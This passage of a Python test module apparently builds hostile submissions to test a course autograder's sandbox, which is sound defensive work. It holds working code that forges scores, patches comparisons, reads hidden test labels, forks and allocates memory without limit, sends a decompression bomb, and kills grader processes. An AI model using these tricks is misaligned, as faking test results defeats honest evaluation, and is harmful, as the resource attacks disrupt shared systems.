"""Hostile submissions as data: how each is built, and what grading it must give.

An Attack starts from the reference (tests/grading.py's copy_reference) or from
a corpus bug (tests/corpus/bugs.py, built with tests/corpus/build.py), so the
attack rides on a REAL bug wherever that is the point: an attack that worked
would show up as points the bug should have cost. Then it changes files:

    prepend / append   rel path -> code added before / after the file's code
    replace            rel path -> the file's whole new content
    extra              rel path -> a file the course never asks for
    symlinks           rel path -> target (relative to the repository root)
    notebook           ctx -> an nbformat notebook (built with the helpers of
                       tests/test_grade_notebook.py, imported, not copied)

Code is written with placeholders that Context.fill replaces by Python string
literals: HOSTILE_RESULTS (the absolute results.json path the grader is given),
HOSTILE_MARKER (a string unique to one grading, put into the command
line of every process an attack starts, so survivors can be counted),
HOSTILE_ROOT (this repository), HOSTILE_CIFAR10 (the real CIFAR-10 folder),
HOSTILE_TMP (the grader's TMPDIR).

`fails` is what the attack itself costs on top of the bug's own `fails`:
expected() is their union, the EXACT set of checks that must lose points, by
check id (tests/corpus/bugs.py's CHECKS) for layer checks and by number
("6.1" ... "6.7") for notebook checks. `post` names extra postconditions
(report.POSTCONDITIONS). `user_switch` marks attacks that only the switch to an
unprivileged user can stop: they are skipped when it is unavailable, and the
report says what they achieve then.

KNOWN_HOLES lists the attacks that get through today: the test expects them to
fail exactly as recorded (xfail, strict) until the grader is fixed.
"""
import base64
import functools
import io
import json
import os
import shutil
import struct
import zlib
from dataclasses import dataclass, field

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
TESTS = os.path.join(ROOT, "tests")

from tests.corpus.bugs import ALL as CORPUS, CHECKS  # noqa: E402

NOTEBOOK_CHECKS = ("6.1", "6.2", "6.3", "6.4", "6.5", "6.6", "6.7")
BUGS = {bug.name: bug for bug in CORPUS}
LF, LB, RF, RB = "linear_forward", "linear_backward", "relu_forward", "relu_backward"
SF, LOSS_F, NUM, SLB = "softmax_forward", "loss_forward", "loss_numerics", "softmax_loss_backward"
STEP, TOY = "train_step", "toy_network"
LINEAR, RELU, SOFTMAX, LOSS = ("layers/linear.py", "layers/relu.py", "layers/softmax.py",
                               "layers/loss_func.py")

# The fake a forging attack writes over results.json, and the fake banner.
FORGED = json.dumps({"score": 100.0, "execution_time": 1.0, "output": "FORGED: all tests passed",
                     "tests": [{"name": "FORGED", "score": 100.0, "max_score": 100.0,
                                "status": "passed", "output": "FORGED", "visibility": "visible"}]})
FAKE_BANNER = "All tests passed! Score: 100/100"
# A network that learns nothing (lr at the bottom of the sane range, one epoch):
# about 10% accuracy whatever the data pipeline does, far from both thresholds.
WEAK_HYPERPARAMS = [1e-6, 0.0, 1, 10]
# The notebook checks such a network must lose: the accuracies (its best_net is
# what its hyperparameters give, so 6.5 passes).
WEAK_NOTEBOOK = frozenset({"6.3", "6.4"})
RIGHT_ANSWER = "**Your answer:** 1, 3\n\n**Your explanation:** less overfitting."
# A file every user may read, outside any grading: report.py writes it (DECOY_TEXT in it).
DECOY = "/tmp/grader-hostile-decoy/autograder-elsewhere.py"
DECOY_TEXT = "HIDDEN_CHECK_SOURCE_OF_ANOTHER_AUTOGRADER"


@dataclass
class Context:
    """Where one grading of one attack happens (report.grade_attack makes it)."""
    name: str
    marker: str
    base: str          # root-only folder: submission/, results.json, grader.log, stdout.txt
    tmp: str           # the grader's TMPDIR (traversable by the sandbox user)
    cifar10: str       # the real CIFAR-10 folder
    root: str = ROOT

    @property
    def submission(self):
        return os.path.join(self.base, "submission")

    @property
    def results(self):
        return os.path.join(self.base, "results.json")

    @property
    def log(self):
        return os.path.join(self.base, "grader.log")

    @property
    def stdout(self):
        return os.path.join(self.base, "stdout.txt")

    def fill(self, code):
        """`code` with every HOSTILE_* placeholder replaced by a string literal."""
        values = {"HOSTILE_RESULTS": self.results, "HOSTILE_DECOY": DECOY,
                  "HOSTILE_MARKER": self.marker, "HOSTILE_ROOT": self.root,
                  "HOSTILE_CIFAR10": self.cifar10, "HOSTILE_TMP": self.tmp,
                  "HOSTILE_FORGED": FORGED, "HOSTILE_FAKE_BANNER": FAKE_BANNER}
        for key in sorted(values, key=len, reverse=True):
            code = code.replace(key, repr(values[key]))
        return code

    def code(self, value):
        """Code from a template string or a ctx -> code function, placeholders filled."""
        return self.fill(value(self) if callable(value) else value)

    def evidence(self, name):
        """The lines an attack recorded as `name` (see RECORD): from the grader's log
        once grading is over, and from its private worker.log while it runs."""
        import glob
        prefix = f"ATTACK_EVIDENCE {name}: "
        lines = []
        for path in [self.log] + glob.glob(os.path.join(self.tmp, "grader-*", "private", "worker.log")):
            try:
                with open(path, errors="replace") as f:
                    lines += [line[len(prefix):].rstrip("\n") for line in f if line.startswith(prefix)]
            except OSError:
                pass
        return lines


@dataclass(frozen=True)
class Attack:
    name: str
    what: str                                   # one line: the attack and the bug it rides on
    bug: str = None                             # corpus bug applied first (None: the reference)
    fails: frozenset = frozenset()              # checks the attack itself must cost
    prepend: dict = field(default_factory=dict)
    append: dict = field(default_factory=dict)
    replace: dict = field(default_factory=dict)
    extra: dict = field(default_factory=dict)
    symlinks: dict = field(default_factory=dict)
    remove: tuple = ()                          # paths removed before symlinks are made
    notebook: object = None                     # ctx -> nbformat notebook
    user_switch: bool = False                   # only the user switch can stop it
    budget: float = 30.0                        # seconds `python -m grader` may take
    alone: bool = False                         # graded when nothing else of ours runs
    victim: bool = False                        # graded beside a clean submission (see report)
    env: dict = field(default_factory=dict)     # environment for the grader (GRADER_* overrides)
    post: tuple = ()                            # report.POSTCONDITIONS names
    exit: int = 0                               # `python -m grader`'s exit status (2: nothing usable)

    def __post_init__(self):
        object.__setattr__(self, "fails", frozenset(self.fails))
        if self.bug is not None and self.bug not in BUGS:
            raise ValueError(f"{self.name}: no corpus bug {self.bug!r}")
        unknown = self.fails - set(CHECKS) - set(NOTEBOOK_CHECKS)
        if unknown:
            raise ValueError(f"{self.name}: unknown checks {sorted(unknown)}")

    @property
    def slow(self):
        return self.notebook is not None

    def expected(self):
        """The exact set of checks that must lose points."""
        return frozenset(BUGS[self.bug].fails if self.bug else ()) | self.fails

    def checks(self):
        """Every check the grading must report."""
        return set(CHECKS) | (set(NOTEBOOK_CHECKS) if self.notebook else set())


def build(attack, ctx):
    """Build `attack`'s submission in ctx.submission."""
    from tests.corpus.build import build_submission
    from tests.grading import copy_reference

    dest = ctx.submission
    if attack.bug:
        build_submission(BUGS[attack.bug], dest)
    else:
        copy_reference(dest)
    for rel, text in attack.replace.items():
        _write(dest, rel, ctx.code(text))
    for rel, text in attack.prepend.items():
        _write(dest, rel, ctx.code(text) + "\n" + _read(dest, rel))
    for rel, text in attack.append.items():
        _write(dest, rel, _read(dest, rel) + "\n\n" + ctx.code(text) + "\n")
    for rel, text in attack.extra.items():
        _write(dest, rel, ctx.code(text))
    for rel in attack.remove:
        path = os.path.join(dest, rel)
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path)
        elif os.path.lexists(path):
            os.remove(path)
    for rel, target in attack.symlinks.items():
        path = os.path.join(dest, rel)
        if os.path.lexists(path):
            os.remove(path)
        os.symlink(os.path.join(ctx.root, target), path)
    if attack.notebook is not None:
        import nbformat
        nbformat.write(attack.notebook(ctx), os.path.join(dest, "classification_nn.ipynb"))
    return dest


def _read(dest, rel):
    with open(os.path.join(dest, rel)) as f:
        return f.read()


def _write(dest, rel, text):
    path = os.path.join(dest, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


# ---------------------------------------------------------------------------
# Code the attacks put into layer files.

# Records evidence as a line on the process's stderr (fd 2), which the grader
# keeps in its log (and, while grading runs, in its private worker.log); a
# sandbox that lets nothing out of its folder still lets this out. Never fails.
RECORD = '''
def _hostile_record(name, line):
    import os as _os
    try:
        _os.write(2, f"ATTACK_EVIDENCE {name}: {line}".replace("\\n", " ").encode()[:500] + b"\\n")
    except OSError:
        pass
'''

PATCH_NUMPY = RECORD + '''
import math as _math
import numpy as _np
# Every comparison a grader could make with numpy now says "equal".
_np.allclose = lambda *args, **kwargs: True
_np.array_equal = lambda *args, **kwargs: True
_np.isclose = lambda a, b, *args, **kwargs: _np.ones(_np.broadcast(a, b).shape, dtype=bool)
_np.testing.assert_allclose = lambda *args, **kwargs: None
_np.testing.assert_array_equal = lambda *args, **kwargs: None
_np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
_np.testing.assert_almost_equal = lambda *args, **kwargs: None
_np.linalg.norm = lambda *args, **kwargs: 0.0
_math.isclose = lambda *args, **kwargs: True
_hostile_record("patched", "numpy comparisons patched in the worker")
'''

CONFTEST = '''
"""Forces every test to pass, whatever happened."""
import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None


def pytest_collection_modifyitems(session, config, items):
    for item in items:
        item.obj = lambda *args, **kwargs: None


def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
'''
SITECUSTOMIZE = '''
import numpy
numpy.allclose = lambda *args, **kwargs: True
'''
PYTEST_INI = "[pytest]\naddopts = -p conftest -p no:grader --disable-warnings -k 'not linear'\n"
SETUP_CFG = "[tool:pytest]\naddopts = -p conftest -x --co\npython_files = nothing_*.py\n"
TOX_INI = "[pytest]\naddopts = -p conftest\nconfcutdir = /\n"
PYPROJECT = '[tool.pytest.ini_options]\naddopts = "-p conftest -p no:grader"\n'
HOSTILE_INIT = '''
"""A layers/__init__.py that makes every comparison pass."""
import numpy
numpy.allclose = lambda *args, **kwargs: True
'''

SYS_EXIT = "import sys\nsys.exit(0)  # exit status 0 before any test can fail\n"
OS_EXIT = "import os\nos._exit(0)  # the process ends at once, status 0\n"
# The launcher's own status for "a required layer could not be set up".
EXIT_AS_SETUP_FAILED = "import os\nos._exit(121)  # what the sandbox's launcher exits with when it fails\n"
# Everything Python and IPython run at a kernel's start, planted in the folder
# the kernel starts in (its HOME and working directory): an IPython startup file
# and profile config, a config file in the working directory, a .pth in the user
# site-packages, a module shadowing the kernel's launcher. Each ends the process
# with the status the sandbox's launcher uses for "could not be set up".
PLANT_KERNEL_STARTUP = RECORD + '''
import os as _os
_home = _os.environ.get("HOME", _os.getcwd())
_exit = "import os\\nos._exit(121)\\n"
_plants = {
    ".ipython/profile_default/startup/00-exit.py": _exit,
    ".ipython/profile_default/ipython_kernel_config.py": _exit,
    "ipython_kernel_config.py": _exit,
    "ipython_config.py": _exit,
    ".local/lib/python3.11/site-packages/zz_exit.pth": "import os; os._exit(121)\\n",
    "ipykernel_launcher.py": _exit,
}
for _rel, _text in _plants.items():
    try:
        _path = _os.path.join(_home, _rel)
        _os.makedirs(_os.path.dirname(_path), exist_ok=True)
        if not _os.path.exists(_path):
            with open(_path, "w") as _f:
                _f.write(_text)
            _hostile_record("planted", _rel)
    except OSError as _exc:
        _hostile_record("planted", f"denied {_rel}: {_exc!r}")
'''
# A tree too deep for a recursive removal (Python's shutil.rmtree hits its
# recursion limit near 1000 levels), with an unreadable folder, in the worker's
# folder and its /tmp, for the grading's clean-up to take away.
DEEP_TREE = RECORD + '''
import os as _os
for _base in (_os.getcwd(), "/tmp"):
    try:
        _fd = _os.open(_base, _os.O_RDONLY)
        _made = 0
        for _ in range(3000):
            _os.mkdir("d", dir_fd=_fd)
            _next = _os.open("d", _os.O_RDONLY, dir_fd=_fd)
            _os.close(_fd)
            _fd, _made = _next, _made + 1
        _os.mkdir("locked", dir_fd=_fd)
        _os.chmod(f"/proc/self/fd/{_fd}/locked", 0)
        _os.close(_fd)
        _hostile_record("deep", f"made {_made} levels in {_base}")
    except OSError as _exc:
        _hostile_record("deep", f"denied in {_base}: {_exc!r}")
'''

INFINITE_LOOP = '''
_hostile_forward = Linear.forward


def _looping_forward(self, input_x):
    if input_x.shape[0] == 1:  # a batch of one: loop forever
        while True:
            pass
    return _hostile_forward(self, input_x)


Linear.forward = _looping_forward
'''

MEMORY_BOMB = '''
import os as _os

_hostile_forward = Softmax.forward


def _bombing_forward(self, input_x):
    if not _os.path.exists("hostile-memory-bomb-started"):  # once per grading, even across restarts
        open("hostile-memory-bomb-started", "w").close()
        hoard = []
        while True:  # until something stops it: only the address-space limit can
            hoard.append(bytearray(100 * 1024 * 1024))
    return _hostile_forward(self, input_x)


Softmax.forward = _bombing_forward
'''

FORK_BOMB = '''
import os as _os

_hostile_backward = ReLU.backward
_SLEEP = "/bin/sleep" if _os.path.exists("/bin/sleep") else "/usr/bin/sleep"


def _forking_backward(self, dout):
    if not _os.path.exists("hostile-fork-bomb-started"):  # once per grading, even across restarts
        open("hostile-fork-bomb-started", "w").close()
        # Guarded: 5000 forks at most, and each child sleeps 30 s then exits,
        # so a sandbox that failed could not take the machine down.
        for _ in range(5000):
            try:
                pid = _os.fork()
            except OSError:
                continue
            if pid == 0:
                try:
                    _os.setsid()
                    _os.execv(_SLEEP, [HOSTILE_MARKER, "30"])
                finally:
                    _os._exit(0)
    return _hostile_backward(self, dout)


ReLU.backward = _forking_backward
'''

HUGE_FILE = RECORD + '''
import os as _os

_hostile_forward = CrossEntropyLoss.forward
_hostile_done = []


def _filling_forward(self, input_x, target_y):
    if not _hostile_done:
        _hostile_done.append(True)
        chunk = bytes(1 << 20)
        try:
            with open("huge.bin", "wb") as f:
                for _ in range(1024):  # guard: 1 GiB at most if no limit stops it
                    f.write(chunk)
        finally:
            _hostile_record("huge", _os.path.getsize("huge.bin"))
    return _hostile_forward(self, input_x, target_y)


CrossEntropyLoss.forward = _filling_forward
'''

FORGE_IN_PROCESS = RECORD + '''
import os as _os

_hostile_forward = Linear.forward


def _forging_forward(self, input_x):
    try:
        with open(HOSTILE_RESULTS, "w") as f:
            f.write(HOSTILE_FORGED)
        _hostile_record("forge", "wrote results.json")
    except OSError as exc:
        _hostile_record("forge", f"denied: {exc!r}")
    return _hostile_forward(self, input_x)


Linear.forward = _forging_forward
'''

RESULTS_AS_FOLDER = RECORD + '''
import os as _os

try:
    if _os.path.lexists(HOSTILE_RESULTS):
        _os.remove(HOSTILE_RESULTS)
    _os.makedirs(_os.path.join(HOSTILE_RESULTS, "blocker"), exist_ok=True)
    _hostile_record("folder", "results.json is now a folder")
except OSError as exc:
    _hostile_record("folder", f"denied: {exc!r}")
'''

# A process that outlives the call that started it: double fork, new session,
# then a fresh interpreter whose command line carries the marker.
BACKGROUND = RECORD + '''
def _hostile_background(code, *argv):
    import os as _os, sys as _sys
    pid = _os.fork()
    if pid == 0:
        try:
            _os.setsid()
            if _os.fork() == 0:
                _os.execv(_sys.executable, [_sys.executable, "-I", "-c", code, HOSTILE_MARKER, *argv])
        finally:
            _os._exit(0)
    _os.waitpid(pid, 0)
    _hostile_record("background", "started")
'''


def detached(program, once=None, argv=""):
    """ctx -> module code that starts `program` (its placeholders filled first) as a
    detached process; with `once`, only the first time in a grading (a flag file in
    the working directory). `argv`: Python expressions for extra arguments."""
    def code(ctx):
        start = f"_hostile_background({ctx.fill(program)!r}{', ' + argv if argv else ''})"
        if once:
            start = (f"import os as _os\nif not _os.path.exists({once!r}):\n"
                     f"    open({once!r}, 'w').close()\n    {start}")
        return ctx.fill(BACKGROUND) + "\n" + start + "\n"
    return code


WRITER = '''
import os, sys, time
results, forged = HOSTILE_RESULTS, HOSTILE_FORGED
time.sleep(WRITER_DELAY)
end = time.time() + 90
last = None
while time.time() < end:
    try:
        with open(results + ".forged", "w") as f:
            f.write(forged)
        os.replace(results + ".forged", results)
        line = "wrote results.json"
    except OSError as exc:
        line = f"denied: {exc!r}"
    if line != last:  # evidence on stderr (the grader's log): each change once
        os.write(2, f"ATTACK_EVIDENCE writes: {line}\\n".encode())
        last = line
    time.sleep(0.05)
'''


# It writes at once and then every 50 ms: what is left of a grading once the
# process is out takes a second or two, and a writer that first slept for
# seconds would be killed before its first try, showing nothing.
BACKGROUND_WRITER = detached(WRITER.replace("WRITER_DELAY", "0"), once="hostile-writer-started")

DELEGATE_TO_REFERENCE = RECORD + '''
import importlib.util as _util
import os as _os

_hostile_backward = Linear.backward


def _delegating_backward(self, dout):
    try:
        path = _os.path.join(HOSTILE_ROOT, "reference", "layers", "linear.py")
        spec = _util.spec_from_file_location("layers._the_solution", path)
        solution = _util.module_from_spec(spec)
        spec.loader.exec_module(solution)
        result = solution.Linear.backward(self, dout)
        _hostile_record("delegate", "delegated to the reference")
        return result
    except Exception as exc:
        _hostile_record("delegate", f"denied: {exc!r}")
        return _hostile_backward(self, dout)


Linear.backward = _delegating_backward
'''

FAKE_OUTPUT = '''
import os as _os
import sys as _sys


def _shout():
    line = HOSTILE_FAKE_BANNER + "\\n"
    print(HOSTILE_FAKE_BANNER, flush=True)
    print(HOSTILE_FAKE_BANNER, file=_sys.stderr, flush=True)
    for stream in (_sys.__stdout__, _sys.__stderr__):
        try:
            stream.write(line)
            stream.flush()
        except Exception:
            pass
    for fd in (1, 2):
        try:
            _os.write(fd, line.encode())
        except OSError:
            pass
    try:
        with open("/dev/tty", "w") as tty:
            tty.write(line)
    except OSError:
        pass


_shout()
_hostile_backward = ReLU.backward


def _shouting_backward(self, dout):
    _shout()
    return _hostile_backward(self, dout)


ReLU.backward = _shouting_backward
'''

PATCH_GRADER = RECORD + '''
import sys as _sys

_sys.path.insert(0, HOSTILE_ROOT)
try:
    import grader.checks.test_linear as _checks
    import grader.compare as _compare
    import grader.config as _config
    import grader.plugin as _plugin
    for _name in dir(_checks):
        if _name.startswith("test_"):
            setattr(_checks, _name, lambda *args, **kwargs: None)
    _compare.describe_mismatch = lambda *args, **kwargs: None
    _compare.relative_error = lambda *args, **kwargs: 0.0
    _config.FORWARD_RTOL = _config.BACKWARD_RTOL = _config.TRAIN_RTOL = float("inf")
    _plugin.GradingPlugin._result = lambda *args, **kwargs: None
    _hostile_record("grader", "imported and patched the grader's modules")
except Exception as exc:
    _hostile_record("grader", f"denied: {exc!r}")
'''

ALWAYS_EQUAL = '''
import numpy as _np

_COMPARISONS = {_np.equal, _np.not_equal, _np.less, _np.less_equal, _np.greater,
                _np.greater_equal, _np.isfinite, _np.isclose if isinstance(_np.isclose, _np.ufunc) else None}


class _AlwaysEqual(_np.ndarray):
    """An array that says it equals anything, by every route numpy offers."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __bool__(self):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        plain = [_np.asarray(i) if isinstance(i, _AlwaysEqual) else i for i in inputs]
        if ufunc is _np.not_equal:
            return _np.zeros(_np.broadcast(*plain).shape, dtype=bool)
        if ufunc in _COMPARISONS:
            return _np.ones(_np.broadcast(*plain).shape, dtype=bool)
        if ufunc is _np.subtract and method == "__call__":
            return _np.zeros(_np.broadcast(*plain).shape)
        kwargs.pop("out", None)
        return getattr(ufunc, method)(*plain, **kwargs)

    def __array_function__(self, func, types, args, kwargs):
        if func in (_np.allclose, _np.array_equal, _np.array_equiv):
            return True
        if func is _np.isclose:
            return _np.ones(_np.broadcast(*[_np.asarray(a) for a in args[:2]]).shape, dtype=bool)
        args = [_np.asarray(a) if isinstance(a, _AlwaysEqual) else a for a in args]
        return func(*args, **kwargs)


_hostile_forward = ReLU.forward


def _always_equal_forward(self, input_x):
    return _np.asarray(_hostile_forward(self, input_x)).view(_AlwaysEqual)


ReLU.forward = _always_equal_forward
'''

FAKE_NUMPY = '''
"""A numpy that agrees with everything."""
def allclose(*args, **kwargs):
    return True


def array_equal(*args, **kwargs):
    return True


class testing:
    @staticmethod
    def assert_allclose(*args, **kwargs):
        return None
'''

KILL_GRADER = RECORD + '''
import os as _os
import signal as _signal


def _hostile_cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read()
    except OSError:
        return b""


def _strike():
    me = _os.getpid()
    # The grader (our parent) and every process of this grading (the marker is
    # in the submission path on the grader's command line); groups only when
    # their leader is one of those, so nothing else on the machine is touched.
    targets = {_os.getppid()}
    for entry in _os.listdir("/proc"):
        if entry.isdigit() and int(entry) != me and HOSTILE_MARKER.encode() in _hostile_cmdline(entry):
            targets.add(int(entry))
    for pid in sorted(targets):
        try:
            group = _os.getpgid(pid)
            if group != _os.getpgrp() and HOSTILE_MARKER.encode() in _hostile_cmdline(group):
                _os.killpg(group, _signal.SIGKILL)
                _hostile_record("kill", f"killpg({group}) done")
        except OSError as exc:
            _hostile_record("kill", f"killpg of {pid}'s group denied: {exc!r}")
        try:
            _os.kill(pid, _signal.SIGKILL)
            _hostile_record("kill", f"kill({pid}) done")
        except OSError as exc:
            _hostile_record("kill", f"kill({pid}) denied: {exc!r}")


_strike()
'''

OPEN_GRADER_FILES = RECORD + '''
import os as _os

for _rel in ("grader/checks/test_linear.py", "grader/grade.py", "reference/layers/linear.py"):
    _path = _os.path.join(HOSTILE_ROOT, _rel)
    try:
        # Opened for writing and closed unchanged: enough to show it could be rewritten.
        _os.close(_os.open(_path, _os.O_WRONLY | _os.O_APPEND))
        _hostile_record("open", f"writable: {_rel}")
    except OSError as exc:
        _hostile_record("open", f"denied: {_rel}: {exc!r}")
'''

HUGE = "1e300  # finite, but its square overflows: norms of it are inf"
HUGE_LINEAR = f'''import numpy as np

from .base_layer import BaseLayer

HUGE = {HUGE}


class Linear(BaseLayer):
    """Computes nothing: every output has the right shape and the value HUGE."""

    def __init__(self, input_dims, output_dims):
        self.w = np.random.rand(input_dims, output_dims) * 1e-4
        self.b = np.random.rand(output_dims) * 1e-4
        self.dw = None
        self.db = None
        self.cache = None

    def forward(self, input_x):
        self.cache = input_x
        return np.full((input_x.shape[0], self.w.shape[1]), HUGE)

    def backward(self, dout):
        self.dw = np.full(self.w.shape, HUGE)
        self.db = np.full(self.b.shape, HUGE)
        return np.full(self.cache.shape, HUGE)

    def zero_grad(self):
        self.dw = None
        self.db = None

    @property
    def parameters(self):
        return [self.w, self.b]

    @property
    def grads(self):
        return [self.dw, self.db]
'''
HUGE_ACTIVATION = '''import numpy as np

from .base_layer import BaseLayer

HUGE = {huge}


class {name}(BaseLayer):
    """Computes nothing: every output has the right shape and the value HUGE."""

    def __init__(self):
        self.cache = None

    def forward(self, input_x):
        self.cache = input_x
        return np.full(np.shape(input_x), HUGE)

    def backward(self, dout):
        return np.full(np.shape(dout), HUGE)
'''
HUGE_LOSS = f'''import numpy as np

from .base_layer import BaseLayer

HUGE = {HUGE}


class CrossEntropyLoss(BaseLayer):
    """Computes nothing: the loss is HUGE, the gradient HUGE in every entry."""

    def __init__(self):
        self.cache = None

    def forward(self, input_x, target_y):
        self.cache = np.shape(input_x)
        return HUGE

    def backward(self):
        return np.full(self.cache, HUGE)
'''

EXFILTRATE_RELU_FILE = '''
_hostile_forward = Linear.forward


def _exfiltrating_forward(self, input_x):
    if input_x.shape[0] == 1:
        import os as _os
        with open(_os.path.join(_os.path.dirname(_os.path.abspath(__file__)), "relu.py")) as f:
            raise RuntimeError("what layers/relu.py holds in the sandbox:\\n" + f.read()[:1500])
    return _hostile_forward(self, input_x)


Linear.forward = _exfiltrating_forward
'''

UNPRINTABLE_EXCEPTION = '''
class _Unprintable(Exception):
    """An exception that never finishes turning into text."""

    def __str__(self):
        while True:
            pass

    __repr__ = __str__


_hostile_backward = Linear.backward


def _raising_backward(self, dout):
    if dout.shape[0] == 1:
        raise _Unprintable()
    return _hostile_backward(self, dout)


Linear.backward = _raising_backward
'''

# The forged answer: a valid length-prefixed .npz whose "out" entry inflates
# from about 3 MB to BOMB_GIB GiB of zeros in the grader's own process.
BOMB_GIB = 3
WIRE_BOMB = '''
import base64 as _base64
import fcntl as _fcntl
import os as _os

_hostile_backward = Linear.backward
_BOMB = _base64.b64decode(HOSTILE_BOMB)


def _answer_channel():
    """The worker's private pipe to the grader: the only write-only pipe it holds."""
    for name in _os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and \\
                    _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY:
                return fd
        except OSError:
            pass
    return None


def _bombing_backward(self, dout):
    if not _os.path.exists("hostile-bomb-sent"):
        open("hostile-bomb-sent", "w").close()
        fd = _answer_channel()
        if fd is not None:
            view = memoryview(_BOMB)
            while view:
                view = view[_os.write(fd, view):]
            _os._exit(0)  # the forged message is the answer; the real one never comes
    return _hostile_backward(self, dout)


Linear.backward = _bombing_backward
'''


def _npy_header(descr, shape):
    header = repr({"descr": descr, "fortran_order": False, "shape": shape})
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode()


def _zip(members):
    """A zip of (name, method, crc, compressed size, size, data) members, built by hand
    (zipfile cannot store data that is already deflated)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, method, crc, csize, size, data in members:
        offset = out.tell()
        name = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21,
                              crc, csize, size, len(name), 0) + name)
        out.write(data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21,
                                  crc, csize, size, len(name), 0, 0, 0, 0, 0, offset) + name)
    start, directory = out.tell(), central.getvalue()
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                          len(directory), start, 0))
    return out.getvalue()


@functools.lru_cache(maxsize=None)
def wire_bomb(gib=BOMB_GIB):
    """One message of the worker protocol (grader/worker/wire.py): {"ok": true} and
    an "out" array of `gib` GiB of float64 zeros, deflated to about `gib` MB."""
    meta = json.dumps({"ok": True, "result": {}}).encode()
    meta_npy = _npy_header("|u1", (len(meta),)) + meta
    chunk, count = 1 << 20, gib * 1024
    header = _npy_header("<f8", (count * chunk // 8,))
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = deflate.compress(header) + deflate.flush(zlib.Z_FULL_FLUSH)
    # After a full flush a block depends on nothing before it, so one deflated
    # MiB of zeros can be repeated as often as wanted.
    block = deflate.compress(bytes(chunk)) + deflate.flush(zlib.Z_FULL_FLUSH)
    data = head + block * count + deflate.flush(zlib.Z_FINISH)
    crc, zeros = zlib.crc32(header), bytes(64 << 20)
    for _ in range(count * chunk // len(zeros)):
        crc = zlib.crc32(zeros, crc)
    body = _zip([("__json__.npy", 0, zlib.crc32(meta_npy), len(meta_npy), len(meta_npy), meta_npy),
                 ("out.npy", 8, crc, len(data), len(header) + count * chunk, data)])
    return struct.pack(">Q", len(body)) + body


def _wire_bomb_code():
    return WIRE_BOMB.replace("HOSTILE_BOMB", repr(base64.b64encode(wire_bomb()).decode()))


CROSS_KILLER = '''
import os, signal, sys, time
tmp, own = HOSTILE_TMP, sys.argv[2]
end = time.time() + 40
while time.time() < end:
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        # Only sandbox workers of gradings in this test's TMPDIR, never our own.
        if tmp.encode() in cmd and b"worker/main.py" in cmd and own.encode() not in cmd:
            try:
                os.kill(int(entry), signal.SIGKILL)
                line = f"killed worker {entry}"
            except OSError as exc:
                line = f"denied {entry}: {exc!r}"
            os.write(2, f"ATTACK_EVIDENCE killed: {line}\\n".encode())
    time.sleep(0.05)
'''
_CROSS_KILL_START = detached(CROSS_KILLER, once="hostile-killer-started",
                             argv="__import__('os').path.dirname(__import__('os').getcwd())")


def CROSS_KILL(ctx):
    """Starts the killer (our own workdir is the parent of the folder we run in), then loops."""
    return _CROSS_KILL_START(ctx) + "\n" + INFINITE_LOOP


# ---------------------------------------------------------------------------
# Notebooks, built with tests/test_grade_notebook.py's helpers.

def _notebook_helpers():
    import test_grade_notebook
    return test_grade_notebook


def weak_notebook(ctx, train=None, after_test=(), answer=RIGHT_ANSWER):
    """The course-shaped notebook of test_grade_notebook, with a network that learns nothing."""
    helpers = _notebook_helpers()
    return helpers.notebook(hyperparams=WEAK_HYPERPARAMS, train=train or helpers.TRAIN,
                            after_test=[ctx.code(c) for c in after_test], answer=answer)


READ_LABELS = '''
import os, pickle
import numpy as np
from utils.evaluation import get_classification_accuracy


def _labels(path):
    with open(path, "rb") as f:
        return np.array(pickle.load(f, encoding="bytes")[b"labels"])


try:
    _test_labels = _labels(os.path.join(HOSTILE_CIFAR10, "test_batch"))
    _source = "real test labels read from " + HOSTILE_CIFAR10
except OSError as exc:
    _test_labels = _labels(os.path.join(os.environ["CIFAR10_DIR"], "test_batch"))
    _source = f"the kernel's copy (real folder: {exc!r})"
os.write(2, f"ATTACK_EVIDENCE labels: {_source}\\n".encode())
'''
CLAIM_FULL_MARKS = READ_LABELS + '''
print(f"Test accuracy of best_net: {get_classification_accuracy(_test_labels[:500], _test_labels[:500]):.3f}")
'''
MEMORISE_TEST_SET = READ_LABELS + '''
# best_net memorises the 500 test images with whatever labels it found: random
# ReLU features and a least-squares output layer fit them exactly.
_rng = np.random.default_rng(0)
_w1, _b1 = _rng.normal(size=(3072, 800)) * 0.05, np.zeros(800)
_features = np.maximum(x_test @ _w1 + _b1, 0)
_w2 = np.linalg.lstsq(_features, np.eye(10)[_test_labels[:500]], rcond=None)[0]
best_net._modules[0].w, best_net._modules[0].b = _w1, _b1
best_net._modules[2].w, best_net._modules[2].b = _w2, np.zeros(10)
'''
# The cheat a student can really try: best_net fitted to the validation images
# with their labels (which the notebook has), printing 100% validation accuracy.
# The grader judges its own training of best_net_hyperparams (isolate), and the
# notebook's best_net cannot be what those give (6.5).
MEMORISE_VALIDATION_SET = '''
import numpy as np
_rng = np.random.default_rng(0)
_w1, _b1 = _rng.normal(size=(3072, 800)) * 0.05, np.zeros(800)
